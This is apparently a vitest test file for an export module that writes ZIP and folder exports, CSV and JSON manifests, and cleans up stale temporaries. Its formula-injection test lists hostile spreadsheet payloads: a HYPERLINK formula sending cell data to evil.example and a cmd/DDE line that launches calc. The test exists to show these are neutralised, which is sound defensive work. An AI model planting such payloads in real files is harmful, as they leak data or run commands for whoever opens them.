// The ZIP writer on its own, on real files: small files read whole several at a time, a file too big to
// read whole streamed from disk, an empty file, and a file that vanished before the export reached it.
// Then hostile input and faults (issue 14): prompts that are spreadsheet formulas, relative destinations,
// a file that appears at the destination during the export, a manifest for 10,000 files, and the
// temporary files a killed export leaves behind.
import { spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { existsSync, mkdirSync, readdirSync, readFileSync, truncateSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { describe, expect, it } from 'vitest'
import type { ExportProgress } from '../../../../src/shared/model'
import { checkAbsolutePath, csvCell, ExportRun, manifestJson, sweepStaleExports, type ExportItem } from '../../../../src/main/core/library/export'
import { tempDir } from '../../../helpers/core'
import { readZip } from '../../../helpers/zip'

function item(id: number, path: string, size: number): ExportItem {
  return {
    id,
    jobId: id,
    batchId: 1,
    batchName: 'Bench',
    prompt: `file ${id}`,
    provider: 'demo',
    model: 'images',
    path,
    mime: 'application/octet-stream',
    size,
    sha256: '',
    width: null,
    height: null,
    createdAt: Date.UTC(2026, 10, 23),
    favorite: false,
    rating: 0,
    missing: false,
    idx: 0,
    params: {},
    submittedAt: null,
    finishedAt: null,
    providerJobId: null
  }
}

/** Writes `sizes.length` files of random bytes and returns them with their export items. */
function files(dir: string, sizes: number[]): { items: ExportItem[]; bytes: Buffer[] } {
  const bytes = sizes.map((n) => randomBytes(n))
  const items = bytes.map((b, i) => {
    const path = join(dir, `f${i}.bin`)
    writeFileSync(path, b)
    return item(i + 1, path, b.length)
  })
  return { items, bytes }
}

describe('ZIP export', () => {
  it('stores every file byte for byte with a valid CRC, streaming the big one, and reports progress', async () => {
    const dir = tempDir()
    // 500 small files (more than the read-ahead and the unwritten-bytes bound hold), an empty one, and one
    // over the 8 MiB read-whole limit.
    const sizes = [...Array.from({ length: 500 }, (_, i) => 1 + ((i * 7919) % 60_000)), 0, 9 * 1024 * 1024 + 3]
    const { items, bytes } = files(dir, sizes)
    const reports: ExportProgress[] = []
    const dest = join(dir, 'out', 'all.zip')
    const done = await new ExportRun(items, { format: 'zip', destination: dest, template: '{job}', embedMetadata: false }, (p) => reports.push(p)).run()

    expect(done).toMatchObject({ state: 'done', done: items.length, total: items.length, path: dest, error: null })
    expect(done.bytes).toBe(sizes.reduce((a, b) => a + b, 0))
    expect(reports.at(-1)?.state).toBe('done')
    const entries = await readZip(dest)
    expect(entries.size).toBe(items.length + 2)
    items.forEach((it, i) => expect(entries.get(`${it.jobId}.bin`)?.equals(bytes[i]), `entry ${it.jobId}`).toBe(true))
    const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as { files: { file: string; size: number }[] }
    expect(manifest.files.map((f) => f.file)).toEqual(items.map((it) => `${it.jobId}.bin`))
    expect(readdirSync(join(dir, 'out'))).toEqual(['all.zip'])
  })

  it('fails on a file that disappeared, naming it, and leaves nothing under the final name', async () => {
    const dir = tempDir()
    const { items } = files(
      dir,
      Array.from({ length: 40 }, () => 10_000)
    )
    unlinkSync(items[25].path)
    const dest = join(dir, 'out.zip')
    const failed = await new ExportRun(items, { format: 'zip', destination: dest, template: '{job}', embedMetadata: false }, () => {}).run()

    expect(failed.state).toBe('failed')
    expect(failed.error).toContain(items[25].path)
    expect(existsSync(dest)).toBe(false)
    expect(readdirSync(dir).filter((n) => !n.endsWith('.bin'))).toEqual([])
  })

  it('stops when canceled midway and leaves nothing behind', async () => {
    const dir = tempDir()
    // Big enough to still be running when the cancel comes: 30 files of 8 MiB (sparse, so quick to make).
    const items = Array.from({ length: 30 }, (_, i) => {
      const path = join(dir, `big${i}.bin`)
      writeFileSync(path, randomBytes(1024))
      truncateSync(path, 8 * 1024 * 1024)
      return item(i + 1, path, 8 * 1024 * 1024)
    })
    const dest = join(dir, 'out', 'big.zip')
    const run: ExportRun = new ExportRun(items, { format: 'zip', destination: dest, template: '{job}', embedMetadata: false }, (p) => {
      if (p.state === 'running' && p.done >= 2) run.cancel()
    })
    const result = await run.run()

    expect(result.state).toBe('canceled')
    expect(result.done).toBeLessThan(items.length)
    expect(readdirSync(join(dir, 'out'))).toEqual([])
  })
})

/** Splits CSV text (RFC 4180: quoted cells, doubled quotes, CRLF rows) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  return rows
}

const zipOptions = (destination: string) => ({ format: 'zip' as const, destination, template: '{job}', embedMetadata: false })

describe('CSV manifest against formula injection', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '  =1+1', "=cmd|' /C calc'!A0"]

  it('prefixes every text cell a spreadsheet would run with a single quote, and leaves the JSON exact', async () => {
    const dir = tempDir()
    const { items } = files(
      dir,
      formulas.map(() => 10)
    )
    items.forEach((it, i) => {
      it.prompt = formulas[i]
      it.batchName = '=1+2'
      it.model = '@model'
      it.providerJobId = '-42'
    })
    items.push({ ...items[0], id: 99, jobId: 99, prompt: 'a red fox, -not a formula', batchName: 'Plain', model: 'images', providerJobId: null, size: 10 })
    const dest = join(dir, 'formulas.zip')
    expect((await new ExportRun(items, zipOptions(dest), () => {}).run()).state).toBe('done')
    const entries = await readZip(dest)
    const [header, ...rows] = parseCsv(entries.get('manifest.csv')!.toString())
    const col = (name: string) => header.indexOf(name)
    formulas.forEach((f, i) => {
      expect(rows[i][col('prompt')], JSON.stringify(f)).toBe(`'${f}`)
      expect(rows[i][col('batch')]).toBe(`'=1+2`)
      expect(rows[i][col('model')]).toBe(`'@model`)
      expect(rows[i][col('provider_job_id')]).toBe(`'-42`)
    })
    // No cell of any row starts with a formula character any more; numbers and plain text are untouched.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^(?:[=+\-@\t\r\n]|\s+[=+\-@])/)
    expect(rows.at(-1)![col('prompt')]).toBe('a red fox, -not a formula')
    expect(rows.at(-1)![col('size')]).toBe('10')
    // The JSON manifest is data, not a spreadsheet: it keeps the prompt exactly.
    const json = JSON.parse(entries.get('manifest.json')!.toString()) as { files: { prompt: string }[] }
    expect(json.files.map((f) => f.prompt)).toEqual(items.map((it) => it.prompt))
  })

  it('leaves numbers alone: a negative number is not text', () => {
    expect(csvCell(-5)).toBe('-5')
    expect(csvCell('-5')).toBe("'-5")
    expect(csvCell(null)).toBe('')
  })
})

describe('export destination', () => {
  it('refuses a relative destination with a clear error, before anything is written', () => {
    const dir = tempDir()
    const { items } = files(dir, [10])
    for (const destination of ['out.zip', './out', '../elsewhere/out.zip', 'sub/dir', '']) {
      expect(() => new ExportRun(items, zipOptions(destination), () => {}), destination).toThrow(/must be an absolute path/)
    }
    expect(() => checkAbsolutePath('Pictures/Batch Studio', 'The output folder')).toThrow(
      /The output folder must be an absolute path \(got "Pictures\/Batch Studio"\)/
    )
    expect(() => checkAbsolutePath('/tmp/a\0b', 'The output folder')).toThrow(/NUL/)
    expect(checkAbsolutePath('/tmp/a/../b//c', 'x')).toBe('/tmp/b/c')
    expect(existsSync('out.zip')).toBe(false)
  })

  for (const format of ['zip', 'folder'] as const) {
    for (const intruder of ['file', 'folder'] as const) {
      it(`keeps a ${intruder} that appeared at the destination during a ${format} export, and fails saying so`, async () => {
        const dir = tempDir()
        const { items } = files(
          dir,
          Array.from({ length: 60 }, () => 20_000)
        )
        const dest = join(dir, format === 'zip' ? 'out.zip' : 'out')
        let made = false
        const result = await new ExportRun(items, { ...zipOptions(dest), format }, (p) => {
          if (made || p.state !== 'running') return
          made = true
          if (intruder === 'file') writeFileSync(dest, 'the user wrote this')
          else mkdirSync(join(dest, 'mine'), { recursive: true })
        }).run()

        expect(made).toBe(true)
        expect(result.state).toBe('failed')
        expect(result.error).toContain(`${dest} appeared while the export was being written`)
        if (intruder === 'file') expect(readFileSync(dest, 'utf8')).toBe('the user wrote this')
        else expect(readdirSync(dest)).toEqual(['mine'])
        expect(readdirSync(dir).filter((n) => n.startsWith('.bs-export-'))).toEqual([])
      })
    }
  }

  it('writes a folder export, with both manifests, under a name nobody else took', async () => {
    const dir = tempDir()
    const { items, bytes } = files(dir, [100, 200, 300])
    const dest = join(dir, 'folder')
    const done = await new ExportRun(items, { ...zipOptions(dest), format: 'folder' }, () => {}).run()
    expect(done).toMatchObject({ state: 'done', path: dest })
    expect(readdirSync(dest).sort()).toEqual(['1.bin', '2.bin', '3.bin', 'manifest.csv', 'manifest.json'])
    expect(readFileSync(join(dest, '2.bin')).equals(bytes[1])).toBe(true)
    const json = JSON.parse(readFileSync(join(dest, 'manifest.json'), 'utf8')) as { files: { file: string }[] }
    expect(json.files.map((f) => f.file)).toEqual(['1.bin', '2.bin', '3.bin'])
    expect(readFileSync(join(dest, 'manifest.csv'), 'utf8').split('\r\n')).toHaveLength(5)
  })
})

describe('manifest for 10,000 files', () => {
  it('is streamed as the text JSON.stringify gives for the whole', () => {
    const few = files(tempDir(), [1, 2]).items
    const at = new Date(Date.UTC(2026, 0, 2))
    const whole = (list: ExportItem[]) =>
      JSON.parse(
        [
          ...manifestJson(
            list,
            list.map((_, i) => `${i}.bin`),
            at
          )
        ].join('')
      ) as unknown
    expect(whole(few)).toEqual({
      exportedAt: at.toISOString(),
      files: few.map((it, i) => expect.objectContaining({ file: `${i}.bin`, prompt: it.prompt, job_id: it.jobId }))
    })
    expect(whole([])).toEqual({ exportedAt: at.toISOString(), files: [] })
  })

  it('keeps memory flat while 10,000 × 5 kB prompts are written', async () => {
    // 10,000 entries of one small file, each with the same 5 kB prompt: ~50 MB per manifest, so a
    // manifest built in memory (text, then a Buffer, for each of JSON and CSV) held ~200 MB.
    const dir = tempDir()
    const path = join(dir, 'one.bin')
    writeFileSync(path, randomBytes(64))
    const prompt = 'a very long prompt, '.repeat(250)
    const items = Array.from({ length: 10_000 }, (_, i) => ({ ...item(i + 1, path, 64), prompt }))
    const used = () => {
      const m = process.memoryUsage()
      return m.heapUsed + m.external + m.arrayBuffers
    }
    // A baseline without the garbage of the tests before.
    setFlagsFromString('--expose-gc')
    ;(runInNewContext('gc') as () => void)()
    const before = used()
    let peak = before
    const sampler = setInterval(() => (peak = Math.max(peak, used())), 2)
    const dest = join(dir, 'big.zip')
    const done = await new ExportRun(items, zipOptions(dest), () => (peak = Math.max(peak, used()))).run()
    clearInterval(sampler)
    peak = Math.max(peak, used())
    expect(done.state).toBe('done')
    const grew = (peak - before) / 1024 / 1024
    console.log(
      `manifest of ${items.length} rows × ${prompt.length} chars: memory grew by ${grew.toFixed(0)} MB at most (from ${(before / 1048576).toFixed(0)} MB)`
    )
    expect(grew).toBeLessThan(100)
    const entries = await readZip(dest)
    expect(entries.get('manifest.csv')!.toString().split('\r\n')).toHaveLength(items.length + 2)
    expect((JSON.parse(entries.get('manifest.json')!.toString()) as { files: unknown[] }).files).toHaveLength(items.length)
  }, 60_000)
})

describe('stale export temporaries', () => {
  it('sweeps what a killed export left (from its journal), and old leftovers in the folders given, nothing else', async () => {
    const dir = tempDir()
    const journal = join(dir, 'journal')
    // A real export in a child process, killed while it writes (30 sparse files of 8 MiB).
    const paths = Array.from({ length: 30 }, (_, i) => {
      const p = join(dir, `big${i}.bin`)
      writeFileSync(p, randomBytes(1024))
      truncateSync(p, 8 * 1024 * 1024)
      return p
    })
    const outDir = join(dir, 'out')
    const script = `
      import { ExportRun } from ${JSON.stringify(pathToFileURL(join(process.cwd(), 'src/main/core/library/export.ts')).href)}
      const items = ${JSON.stringify(paths.map((p, i) => item(i + 1, p, 8 * 1024 * 1024)))}
      // Slowed so that the kill lands mid-export.
      await new ExportRun(items, { format: 'zip', destination: ${JSON.stringify(join(outDir, 'x.zip'))}, template: '{job}', embedMetadata: false, journalDir: ${JSON.stringify(journal)} }, (p) => { if (p.done >= 1) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 200) }).run()
    `
    const child = spawn(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], { stdio: ['ignore', 'ignore', 'pipe'] })
    let stderr = ''
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()))
    const deadline = Date.now() + 20_000
    while (!(existsSync(outDir) && readdirSync(outDir).some((n) => n.startsWith('.bs-export-')))) {
      if (Date.now() > deadline || child.exitCode !== null) throw new Error(`the export never started: ${stderr}`)
      await new Promise((r) => setTimeout(r, 20))
    }
    child.kill('SIGKILL')
    await new Promise((r) => child.once('exit', r))
    const leftover = readdirSync(outDir).filter((n) => n.startsWith('.bs-export-'))
    expect(leftover).toHaveLength(1)
    expect(readdirSync(journal)).toHaveLength(1)

    // Old leftovers from before the journal, in a folder given: swept only once they are an hour old.
    const other = join(dir, 'other')
    mkdirSync(join(other, '.bs-export-0a1b.part'), { recursive: true })
    writeFileSync(join(other, '.bs-export-0a1b.part', 'x.png'), 'x')
    writeFileSync(join(other, '.bs-export-2c3d.part'), 'old')
    writeFileSync(join(other, '.bs-export-4e5f.part'), 'recent: may be another process’s')
    writeFileSync(join(other, '.bs-export-6a7b.partial'), 'not ours')
    writeFileSync(join(other, 'photo.png'), 'the user’s')
    const old = new Date(Date.now() - 2 * 3_600_000)
    utimesSync(join(other, '.bs-export-0a1b.part'), old, old)
    utimesSync(join(other, '.bs-export-2c3d.part'), old, old)
    utimesSync(join(other, 'photo.png'), old, old)
    // A journal note naming something that is not a temporary of ours is not acted on.
    writeFileSync(join(journal, 'forged.json'), JSON.stringify({ temp: join(other, 'photo.png') }))
    writeFileSync(join(journal, 'torn.json'), '{"temp": "/tm')

    const removed = await sweepStaleExports(journal, [other, join(dir, 'absent')])
    expect(removed.sort()).toEqual([join(outDir, leftover[0]), join(other, '.bs-export-0a1b.part'), join(other, '.bs-export-2c3d.part')].sort())
    expect(readdirSync(outDir)).toEqual([])
    expect(readdirSync(other).sort()).toEqual(['.bs-export-4e5f.part', '.bs-export-6a7b.partial', 'photo.png'])
    expect(readdirSync(journal)).toEqual([])
    expect(await sweepStaleExports(join(dir, 'no-journal'))).toEqual([])
  }, 30_000)

  it('a finished or failed export leaves no journal note', async () => {
    const dir = tempDir()
    const journal = join(dir, 'journal')
    const { items } = files(dir, [10, 20])
    expect((await new ExportRun(items, { ...zipOptions(join(dir, 'a.zip')), journalDir: journal }, () => {}).run()).state).toBe('done')
    unlinkSync(items[1].path)
    expect((await new ExportRun(items, { ...zipOptions(join(dir, 'b.zip')), journalDir: journal }, () => {}).run()).state).toBe('failed')
    expect(readdirSync(journal)).toEqual([])
  })
})
